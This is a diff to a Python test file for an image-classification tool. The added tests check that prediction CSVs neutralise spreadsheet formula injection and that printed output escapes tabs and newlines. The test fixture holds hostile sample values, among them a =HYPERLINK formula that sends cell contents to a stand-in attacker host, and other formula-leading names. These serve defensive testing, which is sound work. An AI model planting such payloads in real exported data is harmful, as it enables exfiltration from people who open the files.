@@ -1,9 +1,10 @@
-"""Hostile heads, sweep folders and fine-tuned models (issue 19 item 1).
+"""Hostile heads, sweep folders, fine-tuned models and prediction tables (issue 19 items 1 and 5).
 
 Each case: the attack as a stranger would build it (hashes recomputed, so integrity checks pass),
 the refusal or escape expected, and a check that nothing ran: a pickle payload here creates a
 marker file when it is unpickled, and the marker must not exist afterwards.
 """
+import csv
 import hashlib
 import json
 import pickle
@@ -189,3 +190,61 @@ def test_model_json_carries_a_self_hash_and_format_version_and_an_edit_is_refuse
     (ft / "model.json").write_text(json.dumps(meta))
     line = _one_line_refusal(run_cli("predict", "--model", ft, world["t"] / "photo.png"))
     assert "model.json was changed after it was saved" in line
+
+
+# --- predictions: CSV and the printed lines ------------------------------------------------------------
+
+NAMES = ['=HYPERLINK("http://evil.example/?"&A1,"click")', "+1+2", "-3", "@SUM(A1:A2)", "\tcmd", "\rcmd",
+         "a;b;c", 'say "hi", twice', "two\nlines"]
+
+
+def _rows():
+    scores = np.linspace(0.9, 0.1, len(NAMES))
+    top = [(n, float(s)) for n, s in zip(NAMES, scores)]
+    rows = [{"path": "=1+1.png", "class": name, "label": i, "score_kind": "probability", "score": top[0][1],
+             "top_k": top[i:] + top[:i]} for i, name in enumerate(NAMES)]
+    return rows + [{"path": "@bad.png", "error": "-cannot read @bad.png"}]
+
+
+def test_predictions_csv_neutralises_formulas_and_keeps_top_k_one_entry_per_class(tmp_path):
+    from transferlab.pipeline.predict import write_predictions
+
+    write_predictions(tmp_path / "p.csv", _rows())
+    text = (tmp_path / "p.csv").read_text()
+    assert text.splitlines()[0] == '"path","class","probability","margin","top_classes","top_scores","error"'
+    with open(tmp_path / "p.csv", newline="") as fh:
+        got = list(csv.DictReader(fh))
+    assert len(got) == len(NAMES) + 1
+    for row, name in zip(got, NAMES):
+        assert row["path"] == "'=1+1.png"
+        assert row["class"] == ("'" + name if name[0] in "=+-@\t\r" else name)
+        classes, scores = json.loads(row["top_classes"]), json.loads(row["top_scores"])
+        assert classes[0] == name and sorted(classes) == sorted(NAMES) and len(scores) == len(NAMES)
+    for row in got:  # no cell a spreadsheet would read as a formula
+        assert not any(v.startswith(("=", "+", "-", "@", "\t", "\r")) for v in row.values())
+    assert got[-1]["path"] == "'@bad.png" and got[-1]["error"] == "'-cannot read @bad.png"
+
+
+def test_printed_lines_escape_tabs_and_newlines_in_names():
+    from transferlab.pipeline.predict import format_line
+
+    for row in _rows()[:-1]:
+        line = format_line({**row, "path": "dir\twith\ttabs/x\n.png"})
+        assert "\n" not in line and "\r" not in line
+        fields = line.split("\t")
+        assert len(fields) == 5 and fields[0] == "dir\\twith\\ttabs/x\\n.png" and fields[3] == "probability"
+        unescaped = fields[1].replace("\\t", "\t").replace("\\n", "\n").replace("\\r", "\r")
+        assert unescaped == row["class"]
+
+
+def test_predict_out_as_typed_neutralises_a_path_that_starts_with_a_formula(world, tmp_path):
+    sweep = world["t"] / "sweep"
+    shutil.copy(world["t"] / "photo.png", tmp_path / "=1+1.png")
+    shutil.copy(world["t"] / "photo.png", tmp_path / "@x.png")
+    out = run_cli("predict", "--model", sweep, "=1+1.png", "@x.png", "--out", "p.csv", "--top-k", "2", cwd=tmp_path)
+    assert out.returncode == 0, out.stderr
+    with open(tmp_path / "p.csv", newline="") as fh:
+        got = list(csv.DictReader(fh))
+    assert [r["path"] for r in got] == ["'=1+1.png", "'@x.png"]
+    classes = json.loads(got[0]["top_classes"])
+    assert len(classes) == 2 and classes[0] == got[0]["class"] and len(json.loads(got[0]["top_scores"])) == 2
